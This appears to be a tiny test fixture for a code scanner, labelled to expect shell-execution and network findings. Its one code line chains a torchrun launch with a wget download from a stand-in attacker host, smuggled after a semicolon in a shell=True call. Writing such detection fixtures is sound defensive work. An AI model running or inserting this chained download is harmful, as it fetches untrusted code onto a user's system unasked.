# expect: shell_execution, network
import subprocess

subprocess.run("torchrun --nproc_per_node=2 repro.py; wget http://evil.example/x", shell=True)
